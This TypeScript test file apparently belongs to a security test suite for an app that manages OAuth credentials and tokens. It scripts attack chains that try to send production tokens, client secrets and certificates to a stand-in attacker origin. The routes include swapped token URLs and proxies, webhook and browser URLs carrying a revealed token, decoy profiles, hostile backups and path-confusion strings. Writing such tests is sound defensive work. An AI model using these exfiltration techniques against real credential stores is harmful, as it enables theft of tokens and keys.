import type { CallName } from '#shared/contract.ts'
import { defaultProfileSettings, type Profile, type ProfileSettings } from '#shared/profiles/profile.ts'
import type { AppInfo } from '#shared/settings/app-settings.ts'
import { attackersPassphrase, leftBaitId, productionRecord, restoredBaitId, type WalledApp } from './walled-app.ts'

/** Calls of one window in sequence that try to extract a secret. */
export interface AttackChain {
  readonly run: (app: WalledApp) => Promise<unknown>
  /** Returns what main's question says if the person lets it happen; undefined: the attack fails even then. */
  readonly asks?: (app: WalledApp) => string
}

/** Calls of one window each. */
let windows = 1_000_000

type Step = (name: CallName, input?: unknown) => Promise<unknown>

/** Creates a chain of calls from one window; each step returns the value, or undefined if the call was refused. */
function chain(run: (step: Step, app: WalledApp) => Promise<unknown>, asks?: AttackChain['asks']): AttackChain {
  return {
    run: (app) => {
      const windowId = (windows += 1)
      const step: Step = async (name, input) => {
        const envelope = await app.call(name, input, windowId)
        return envelope.ok ? envelope.value : undefined
      }
      return run(step, app)
    },
    ...(asks === undefined ? {} : { asks }),
  }
}

async function change(step: Step, profileId: string, changes: Partial<ProfileSettings>): Promise<void> {
  const profiles = (await step('profiles.list')) as Profile[]
  const current = profiles.find(({ id }) => id === profileId)
  if (current === undefined) return
  const { id, practice, revision, createdAt, updatedAt, ...settings } = current
  await step('profiles.update', { profileId, revision, settings: { ...settings, ...changes } })
}

const token = (profileId: string): [CallName, unknown] => ['tokens.get', { profileId, renew: true }]

export const attackChains: Readonly<Record<string, AttackChain>> = {
  'token URL': chain(
    async (step, { production: { id }, attacker }) => {
      await change(step, id, { tokenUrl: `${attacker.origin}/token` })
      await step(...token(id))
    },
    ({ attacker }) => attacker.host,
  ),
  'API address and connection test': chain(
    async (step, { production: { id }, attacker }) => {
      await change(step, id, { apiBaseUrl: attacker.origin })
      await step('connection.test', { profileId: id })
      await step('connection.get', { profileId: id, path: 'x' })
    },
    ({ attacker }) => attacker.host,
  ),
  'reporting address and a list': chain(
    async (step, { production: { id }, attacker }) => {
      await change(step, id, { reportsBaseUrl: attacker.origin })
      const run = (await step('lists.open', { profileId: id, list: 'reports', restart: true })) as { datasetId: string }
      await step('lists.load', { datasetId: run.datasetId, pages: 1 })
    },
    ({ attacker }) => attacker.host,
  ),
  'proxy and authority': chain(
    async (step, { distant: { id }, attacker }) => {
      await change(step, id, { proxy: attacker.origin })
      await step('trust.inspectTls', { profileId: id })
    },
    ({ attacker }) => attacker.host,
  ),
  'records in the parameters of a new profile': chain(
    async (step, { attacker }) => {
      const created = (await step('profiles.create', {
        ...{ ...defaultProfileSettings('basic'), name: 'New', environment: 'mock', clientId: 'acme' },
        ...{ tokenUrl: `${attacker.origin}/token`, extraTokenParameters: { note: productionRecord } },
      })) as Profile
      await step('profiles.setClientSecret', { profileId: created.id, clientSecret: 'theirs' })
      await step(...token(created.id))
      await step('doctor.diagnose', { profileId: created.id })
    },
    () => productionRecord,
  ),
  'another token URL of a test profile with a client secret': chain(async (step, { tested: { id }, attacker }) => {
    const [basic, jwt] = (['basic', 'jwt'] as const).map(defaultProfileSettings)
    await change(step, id, { ...jwt, environment: 'client-testing', audience: 'a:b:c:d' })
    await change(step, id, { tokenUrl: `${attacker.origin}/token` })
    for (const clientAuthentication of ['client_secret_basic', 'client_secret_post'] as const) {
      await change(step, id, { ...basic, environment: 'mock', clientAuthentication })
      await step(...token(id))
    }
  }),
  'another proxy of a test profile with a proxy password': chain(async (step, { tested: { id }, attacker }) => {
    await change(step, id, { proxy: attacker.origin })
    await step(...token(id))
    await step('trust.inspectTls', { profileId: id })
    await change(step, id, { proxy: 'system' })
    await change(step, id, { proxy: attacker.origin.replace('127.0.0.1', 'localhost') })
    await step(...token(id))
  }),
  'out of Production, then another token URL': chain(
    async (step, { production: { id }, attacker }) => {
      await change(step, id, { environment: 'client-testing' })
      await change(step, id, { tokenUrl: `${attacker.origin}/token` })
      await step(...token(id))
    },
    () => 'Environment: Production → Client Testing',
  ),
  'a renamed decoy': chain(
    async (step, { production, lure, attacker }) => {
      await change(step, production.id, { name: 'Old' })
      await change(step, lure.id, { name: production.name, environment: 'production' })
      await change(step, production.id, { tokenUrl: `${attacker.origin}/token` })
      await step(...token(production.id))
      await step(...token(lure.id))
    },
    ({ attacker }) => attacker.host,
  ),
  'a shown token in a webhook': chain(
    async (step, { production: { id }, attacker }) => {
      const shown = (await step('tokens.reveal', { profileId: id })) as { accessToken: string } | undefined
      const { warnings } = (await step('app.settings')) as { warnings: Record<string, unknown> }
      const webhookUrl = `${attacker.origin}/${shown?.accessToken ?? ''}`
      await step('app.changeSettings', { warnings: { ...warnings, webhook: true, webhookUrl } })
      await step('expiry.testWebhook')
    },
    () => 'Show an access token of a Production profile?',
  ),
  'a shown token in another profile and in the browser': chain(
    async (step, { production: { id }, lure, attacker }) => {
      const shown = (await step('tokens.reveal', { profileId: id })) as { accessToken: string } | undefined
      const text = shown?.accessToken ?? ''
      await change(step, lure.id, { extraTokenParameters: { stolen: text === '' ? 'nothing' : text } })
      await step(...token(lure.id))
      await step('app.openExternal', { url: `${attacker.origin}/${text}` })
    },
    () => 'Show an access token of a Production profile?',
  ),
  'a copied token': chain(async (step, { production: { id } }) => step('tokens.copy', { profileId: id })),
  'a duplicate': chain(async (step, { production: { id }, attacker }) => {
    const copy = (await step('profiles.duplicate', { profileId: id, name: 'Copy' })) as { id: string } | undefined
    if (copy === undefined) return
    await change(step, copy.id, { tokenUrl: `${attacker.origin}/token` })
    await step(...token(copy.id))
  }),
  'a certificate of the production key for the attacker’s profile': chain(
    async (step, { production: { id }, lure }) => {
      const [active] = (await step('credentials.list', { profileId: id })) as { certificate: { pem: string } }[]
      const base64 = Buffer.from(active?.certificate.pem ?? '').toString('base64')
      await step('credentials.importContents', { profileId: lure.id, contents: [{ name: 'c', base64 }] })
      const own = (await step('credentials.list', { profileId: lure.id })) as { id: string }[]
      for (const { id: credentialId } of own) await step('credentials.activate', { profileId: lure.id, credentialId })
      await step(...token(lure.id))
    },
  ),
  ...Object.fromEntries(
    (['lure', 'bait', 'a restored bait'] as const).map((which) => [
      `another certificate of the production key for ${which}`,
      chain(async (step, app) => {
        await restore(step, restoredBaitId, { kind: 'add', name: 'Restored bait' }, true)
        const profiles = (await step('profiles.list')) as { id: string; name: string }[]
        const restored = profiles.find(({ name }) => name === 'Restored bait')
        const id = which === 'a restored bait' ? restored?.id : app[which].id
        const base64 = Buffer.from(app.otherCertificate).toString('base64')
        for (const profileId of [id, undefined])
          await step('credentials.importContents', { profileId, contents: [{ name: 'c', base64 }] })
        const own = ((await step('credentials.list', { profileId: id })) ?? []) as { id: string }[]
        for (const { id: credentialId } of own) {
          await step('credentials.activate', { profileId: id, credentialId })
          await step(...token(id ?? ''))
        }
      }),
    ]),
  ),
  'the production credential under the attacker’s profile': chain(async (step, { production: { id }, lure }) => {
    const [active] = (await step('credentials.list', { profileId: id })) as { id: string }[]
    for (const name of ['credentials.activate', 'credentials.retire', 'credentials.saveRequest'] as const)
      await step(name, { profileId: lure.id, credentialId: active?.id })
    await step(...token(lure.id))
    await step('doctor.diagnose', { profileId: lure.id })
  }),
  'a key that no profile has': chain(
    async (step, { lure, leftKey: { keyId, certificate } }) => {
      await step('recovery.list')
      await step('recovery.attach', { keyId, profileId: lure.id })
      const base64 = Buffer.from(certificate).toString('base64')
      await step('credentials.importContents', { profileId: lure.id, contents: [{ name: 'c', base64 }] })
      await step('credentials.activate', { profileId: lure.id, credentialId: keyId })
      await step(...token(lure.id))
    },
    () => 'Lure',
  ),
  'an import of a key for Production, after a backup that names it': chain(async (step, { production, leftKey }) => {
    await restore(step, leftBaitId, { kind: 'add', name: 'Left bait' })
    const contents = [{ name: 'left.key', base64: leftKey.base64 }]
    for (const profileId of [production.id, undefined])
      await step('credentials.importContents', { profileId, contents })
    const bait = ((await step('profiles.list')) as Profile[]).find(({ name }) => name === 'Left bait')
    const { productionAccess } = (await step('app.info')) as AppInfo
    // Where Production is read-only, no backup that names its key is restored.
    if (bait === undefined && productionAccess !== 'full') return
    if (bait === undefined) throw new Error('The backup was not restored.')
    const named = (await step('credentials.list', { profileId: bait.id })) as { id: string }[]
    for (const { id: credentialId } of named) {
      await step('credentials.activate', { profileId: bait.id, credentialId })
      await step(...token(bait.id))
    }
  }),
  'an imported profile': chain(async (step) => {
    const file = (await step('profiles.openFile')) as { fileId: string }
    const imported = (await step('profiles.importFile', { fileId: file.fileId, withNetwork: true })) as
      | { id: string }[]
      | undefined
    for (const { id } of imported ?? []) await step(...token(id))
  }),
  'a backup in the place of a Production profile': chain(
    async (step, { production: { id } }) => {
      await restore(step, id, { kind: 'replace' })
      await step(...token(id))
    },
    ({ attacker }) => attacker.host,
  ),
  'a backup beside a Production profile': chain(async (step, { production: { id } }) => {
    await restore(step, id, { kind: 'add', name: 'Beside' })
    for (const profile of (await step('profiles.list')) as { id: string; name: string }[])
      if (profile.name === 'Beside') await step(...token(profile.id))
  }),
  'a backup that takes the keys of a deleted profile': chain(async (step, { production: { id } }) => {
    await step('profiles.remove', { profileId: id, destroySecrets: false })
    await restore(step, id, { kind: 'add', name: 'Heir' })
    for (const profile of (await step('profiles.list')) as { id: string; name: string }[])
      if (profile.name === 'Heir') await step(...token(profile.id))
  }),
  'paths that mean another host': chain(async (step, { production: { id }, attacker: { host, origin } }) => {
    const paths = ['//', '\\\\', '/\\', '\\/', 'http:', 'http:/', '///', '@', '..//', '/%2f/', '\t//', '?//', '#//']
    for (const before of paths) await step('connection.get', { profileId: id, path: `${before}${host}/x` })
    for (const path of [origin, `http://x@${host}`, `${origin}\\@127.0.0.1`])
      await step('connection.get', { profileId: id, path })
    await change(step, id, { helloPath: `//${host}/x` })
    await step('connection.test', { profileId: id })
    await step('trust.inspectTls', { profileId: id, address: `${origin}/token` })
  }),
  'a replacement': chain(async (step, { production: { id }, attacker }) => {
    await step('replacements.start', { profileId: id, keySize: 2048 })
    await change(step, id, { audience: attacker.origin })
    for (const name of ['replacements.tryOut', 'replacements.switchOver', 'replacements.goBack'] as const)
      await step(name, { profileId: id })
  }),
}

async function restore(step: Step, profileId: string, choice: unknown, withNetwork = false): Promise<void> {
  const file = (await step('backup.openFile')) as { backupId: string }
  const opened = { backupId: file.backupId, passphrase: attackersPassphrase }
  await step('backup.restore', { ...opened, choices: [{ profileId, choice }], withNetwork })
}
